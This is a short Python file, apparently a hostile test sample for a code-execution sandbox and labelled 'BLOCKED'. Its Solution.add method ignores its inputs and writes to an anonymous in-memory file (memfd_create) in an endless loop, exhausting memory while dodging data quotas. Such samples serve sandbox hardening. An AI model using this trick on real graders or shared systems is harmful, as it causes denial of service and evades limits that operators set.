# verdict: BLOCKED - a file in memory, which no limit on data counts
import os


class Solution:
    def add(self, a, b):
        handle = os.memfd_create("hostile")
        while True:
            os.write(handle, bytes(1 << 20))
